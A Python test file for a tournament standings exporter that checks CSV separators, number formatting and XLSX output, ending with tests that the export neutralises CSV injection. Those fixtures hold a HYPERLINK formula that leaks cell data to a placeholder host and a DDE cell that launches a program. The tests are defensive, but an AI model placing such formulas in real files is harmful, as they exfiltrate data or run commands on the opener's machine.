"""tournaments.spreadsheets: CSV in the language's separators with a BOM, XLSX with numbers
as numbers."""

import csv
import io
from decimal import Decimal

from openpyxl import load_workbook

from tournaments.spreadsheets import Sheet, csv_bytes, number_text, xlsx_bytes

SHEET = Sheet(
    "Standings: [after] round 2/5 of a long event name",
    ("Rank", "Name", "Points", "SB"),
    (
        ("1", "Lefèvre, Luc", Decimal("4.50"), Decimal("12.25")),
        ("2-3", "Волков, Иван", Decimal("3.0"), None),
        ("2-3", 'Kok, "Pim"', Decimal("3"), Decimal("0")),
    ),
)


def test_a_decimal_comma_wants_semicolons():
    text = csv_bytes(SHEET, decimal=",").decode("utf-8")
    assert text.startswith("\ufeffRank;Name;Points;SB\r\n")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[1:] == [
        ["1", "Lefèvre, Luc", "4,5", "12,25"],
        ["2-3", "Волков, Иван", "3", ""],
        ["2-3", 'Kok, "Pim"', "3", "0"],
    ]


def test_a_decimal_point_wants_commas_and_quotes():
    text = csv_bytes(SHEET, decimal=".").decode("utf-8-sig")
    assert text.splitlines()[1] == '1,"Lefèvre, Luc",4.5,12.25'
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[3] == ["2-3", 'Kok, "Pim"', "3", "0"]


def test_number_text_drops_trailing_zeros_only():
    assert [number_text(Decimal(v), ",") for v in ("10", "10.0", "0.5", "100.50")] == [
        "10",
        "10",
        "0,5",
        "100,5",
    ]


def test_the_workbook_keeps_numbers_and_a_valid_sheet_name():
    book = load_workbook(io.BytesIO(xlsx_bytes(SHEET)))
    sheet = book.active
    assert sheet.title == "Standings   after  round 2 5 of"
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == ["Rank", "Name", "Points", "SB"]
    assert rows[1] == ["1", "Lefèvre, Luc", 4.5, 12.25]
    assert rows[2] == ["2-3", "Волков, Иван", 3, None]
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


FORMULAS = Sheet(
    "Players",
    ("Name", "Club", "Points"),
    (
        ('=HYPERLINK("http://x.example/?"&A1, "Click"), Jan', "+cmd|' /C calc'!A0", Decimal("-1")),
        ("@SUM(1+1), Piet", "-2+3", Decimal("2")),
        ("Boomstra\nRoel", "Het Noorden", None),
    ),
)


def test_a_name_a_spreadsheet_would_run_is_text_in_the_csv():
    """A cell starting with = + - @ is a formula to a spreadsheet opening the CSV (CSV
    injection): it is written with a leading apostrophe, on one line; numbers stay numbers."""
    for decimal, delimiter in ((".", ","), (",", ";")):
        text = csv_bytes(FORMULAS, decimal=decimal).decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text), delimiter=delimiter))
        assert len(rows) == 4  # the line break made no row
        assert rows[1][:2] == [
            '\'=HYPERLINK("http://x.example/?"&A1, "Click"), Jan',
            "'+cmd|' /C calc'!A0",
        ]
        assert rows[2][:2] == ["'@SUM(1+1), Piet", "'-2+3"]
        assert rows[3][0] == "Boomstra Roel"
        assert rows[1][2] == "-1"


def test_a_name_a_spreadsheet_would_run_is_text_in_the_workbook():
    """openpyxl stores a text starting with ``=`` as a formula: the workbook stores every
    text as text, as the page shows it."""
    sheet = load_workbook(io.BytesIO(xlsx_bytes(FORMULAS))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert sheet["A2"].value == '=HYPERLINK("http://x.example/?"&A1, "Click"), Jan'
    assert sheet["C2"].value == -1
